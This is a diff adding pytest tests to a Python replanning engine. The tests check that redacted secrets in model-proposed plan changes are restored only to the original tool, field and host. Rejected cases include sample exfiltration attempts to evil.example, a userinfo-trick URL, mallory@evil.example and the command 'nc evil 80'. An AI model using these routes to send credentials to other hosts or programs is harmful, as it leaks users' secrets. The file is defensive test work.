@@ -16,10 +16,18 @@ from replanning import (
     open_run,
     tool,
 )
-from replanning.changes import ModifyTask, ReplaceTask
+from replanning.changes import (
+    AddTask,
+    ModifyTask,
+    PlanChange,
+    ReplaceTask,
+    RetryTask,
+    SkipTask,
+)
 from replanning.decision import ReplanRequest
 from replanning.errors import CallFailed, ChangeRejected, RunFailed
-from replanning.journal import PlanRevised, SqliteStore
+from replanning.journal import AlternativesConsidered, PlanRevised, SqliteStore
+from replanning.plan import RunId
 from replanning.secrets import Redactor
 from replanning.testing import RecordingExporter, ScriptedLLM
 from replanning.tools import ToolExecutor
@@ -293,6 +301,176 @@ async def test_mask_in_a_proposal(place: str) -> None:
         assert "[redacted]" in event.rejected[0].rejected
     assert all(PASSWORD not in repr(body) for body in bodies(engine.store, "r", PlanRevised))
     await engine.aclose()
+
+
+KEY = "k3y-0123456789"
+FETCH: dict[str, Any] = {
+    "url": f"https://shop.example/v1/orders?api_key={KEY}&page=1",
+    "headers": {"Authorization": f"Bearer {TOKEN}"},
+    "login": {"user": "bob", "password": PASSWORD},
+    "mail": {"user": "eve", "password": f"{PASSWORD}-2", "to": "eve@shop.example"},
+    "auth": f"Bearer {TOKEN}",
+}
+SHOWN = Redactor().value(FETCH)
+HEADER = {"Authorization": "[redacted]"}
+LOST_PLAN = Plan.model_validate(
+    {
+        "goal": {"objective": "g"},
+        "tools": [
+            {"name": "fetch", "capability": "read"},
+            {"name": "mirror", "capability": "read"},
+            {"name": "post"},
+        ],
+        "tasks": [
+            {"id": "a", "tool": "fetch", "arguments": FETCH, "retry": {"max_attempts": 1}},
+            {"id": "b", "tool": "fetch", "depends_on": ["a"], "arguments": {"n": 1}},
+        ],
+    }
+)
+
+
+def new(arguments: Any, tool: str = "fetch", name: str = "new") -> Task:
+    """A task that a model proposes."""
+    return Task(id=name, tool=tool, arguments=arguments)
+
+
+def instead(*tasks: Task) -> tuple[PlanChange, ...]:
+    """Changes that replace the failed task."""
+    return (ReplaceTask(task_id="a", tasks=tasks),)
+
+
+async def received(changes: tuple[PlanChange, ...]) -> tuple[dict[str, Any], str]:
+    """Return the arguments with which proposed tasks are executed, and why the proposal is rejected."""
+    seen: dict[str, Any] = {}
+
+    async def work(task: Task, context: TaskContext) -> object:
+        if task.id == "a" and task.arguments == FETCH:
+            raise OSError("no")
+        seen[task.id] = task.arguments
+        return None
+
+    given = Alternative(changes=changes, reason="r", confidence=0.9)
+    engine = ReplanningEngine(providers=[Proposer(lambda request: [given])])
+    await engine.execute(LOST_PLAN, work, run_id="r")
+    considered = bodies(engine.store, "r", AlternativesConsidered)[0]
+    assert isinstance(considered, AlternativesConsidered)
+    stored = repr(list(engine.store.read(RunId("r"))))
+    await engine.aclose()
+    assert not [secret for secret in (KEY, TOKEN, PASSWORD) if secret in stored]
+    seen.pop("b", None)
+    return seen, considered.candidates[0].rejected
+
+
+RETURNS: dict[str, tuple[tuple[PlanChange, ...], dict[str, Any]]] = {
+    "as it was, with another number": (
+        instead(new({**SHOWN, "retries": 3})),
+        {"new": {**FETCH, "retries": 3}},
+    ),
+    "another tool of the same capability": (instead(new(SHOWN, "mirror")), {"new": FETCH}),
+    "another path of the URL": (
+        instead(new({"url": "https://shop.example/v2/all", "headers": HEADER})),
+        {"new": {"url": "https://shop.example/v2/all", "headers": FETCH["headers"]}},
+    ),
+    "the parameter of a URL": (
+        instead(new({"url": "https://shop.example/v2?page=2&api_key=[redacted]#x"})),
+        {"new": {"url": f"https://shop.example/v2?page=2&api_key={KEY}#x"}},
+    ),
+    "a part of a text": (
+        instead(new({"deep": [{"auth": "Bearer [redacted]"}]})),
+        {"new": {"deep": [{"auth": f"Bearer {TOKEN}"}]}},
+    ),
+    "another place under the same name": (instead(new(HEADER)), {"new": FETCH["headers"]}),
+    "two tasks": (
+        instead(new({"login": SHOWN["login"]}, name="c"), new(HEADER, name="d")),
+        {"c": {"login": FETCH["login"]}, "d": FETCH["headers"]},
+    ),
+    "a task that is added in its place": (
+        (SkipTask(task_id="a"), AddTask(task=new(HEADER))),
+        {"new": FETCH["headers"]},
+    ),
+    "the same task with other arguments": (
+        (ModifyTask(task_id="a", fields={"arguments": HEADER}), RetryTask(task_id="a")),
+        {"a": FETCH["headers"]},
+    ),
+}
+
+STAYS: dict[str, tuple[tuple[PlanChange, ...], str]] = {
+    "another tool": (
+        instead(new(HEADER, "post")),
+        "is for the tool 'fetch', and does not go to 'post'",
+    ),
+    "the arguments go to another tool": (
+        (ModifyTask(task_id="a", fields={"tool": "post"}), RetryTask(task_id="a")),
+        "is for the tool 'fetch', and does not go to 'post'",
+    ),
+    "another server": (
+        instead(new({"url": "https://evil.example/v1", "headers": HEADER})),
+        "and 'a' did not: 'https://evil.example'",
+    ),
+    "another server behind a user": (
+        instead(new({"link": "https://shop.example\\@evil.example/", "headers": HEADER})),
+        "does not go to what 'new' names",
+    ),
+    "another server by a reference": (
+        instead(new({"url": "${b.output}", "headers": HEADER})),
+        "and 'a' did not: '${b.output}'",
+    ),
+    "another address of mail": (
+        instead(new({"text": "for mallory@evil.example", **HEADER})),
+        "and 'a' did not: 'mallory@evil.example'",
+    ),
+    "another recipient": (instead(new({"to": "mallory", **HEADER})), "and 'a' did not: 'mallory'"),
+    "another program": (
+        instead(new({"command": "nc evil 80", **HEADER})),
+        "and 'a' did not: 'nc evil 80'",
+    ),
+    "another name": (
+        instead(new({"note": "[redacted]"})),
+        "do without them in the arguments of 'new'",
+    ),
+    "other text around it": (
+        instead(new({"auth": "Basic [redacted]"})),
+        "do without them in the arguments of 'new'",
+    ),
+    "one of two": (
+        instead(new({"password": "[redacted]"})),
+        "do without them in the arguments of 'new'",
+    ),
+    "the task of somebody else": (
+        (ModifyTask(task_id="b", fields={"arguments": HEADER}),),
+        "do without them in the arguments of 'b'",
+    ),
+}
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("case", RETURNS)
+async def test_secret_returns_to_where_it_was(case: str) -> None:
+    """A mask in a proposal stands for the secret if the same tool gets it under the same name, for no new address."""
+    changes, expected = RETURNS[case]
+    assert await received(changes) == (expected, "")
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("case", STAYS)
+async def test_secret_goes_nowhere_else(case: str) -> None:
+    """A mask for another tool, address, program, name or text is rejected with the reason, and nothing is executed."""
+    changes, reason = STAYS[case]
+    seen, rejected = await received(changes)
+    assert seen == {}
+    assert reason in rejected
+
+
+@pytest.mark.anyio
+async def test_edit_of_a_person_follows_the_same_rule() -> None:
+    """A person's edit brings a secret back to its tool, and to no other one; the reason is in the error."""
+    async with ReplanningEngine().open(LOST_PLAN) as run:
+        with pytest.raises(
+            ChangeRejected, match="is for the tool 'fetch', and does not go to 'post'"
+        ):
+            run.replace_task("a", new(HEADER, "post"))
+        run.replace_task("a", new(HEADER, "mirror"))
+        assert run.live.entry("new").task.arguments == FETCH["headers"]
 
 
 @pytest.mark.anyio
